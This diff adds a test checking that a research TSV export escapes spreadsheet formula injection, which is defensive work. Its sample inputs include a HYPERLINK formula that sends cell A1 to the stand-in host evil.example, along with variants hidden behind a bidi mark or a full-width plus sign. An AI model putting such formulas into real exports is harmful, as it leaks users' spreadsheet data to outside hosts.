@@ -264,3 +264,23 @@ def test_hostile_text_is_escaped(desk, tmp_path):
     write_research(desk, folder)
     rows = (folder / CHECKWORTHY_FILE).read_text(encoding="utf-8").splitlines()
     assert all(line.count("\t") == 4 for line in rows)
+
+
+def test_check_worthiness_tsv_neutralises_formulas(desk, tmp_path):
+    """A sentence that a spreadsheet would run (plain, behind a bidi mark or white space,
+    full-width) goes out with a leading ' in the research TSV, as in the CSV."""
+    poison = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"انقر")',
+        "\u200f=1+1 قال الوزير.",
+        "\uff0b1+1 قال الوزير.",
+        "@SUM(A1) قال الوزير.",
+    ]
+    article = desk.import_text("عنوان المقال\n" + "\n".join(poison) + "\n")
+    folder = tmp_path / "research"
+    write_research(desk, folder, article_id=article.article_id)
+    with open(folder / CHECKWORTHY_FILE, encoding="utf-8", newline="") as fh:
+        rows = list(csv.reader(fh, delimiter="\t", quoting=csv.QUOTE_NONE))
+    texts = [row[TSV_COLUMNS.index("sentence_text")] for row in rows[1:]]
+    for sentence in poison:
+        assert "'" + sentence in texts, (sentence, texts)
+    assert "عنوان المقال" in texts  # ordinary sentences are left alone
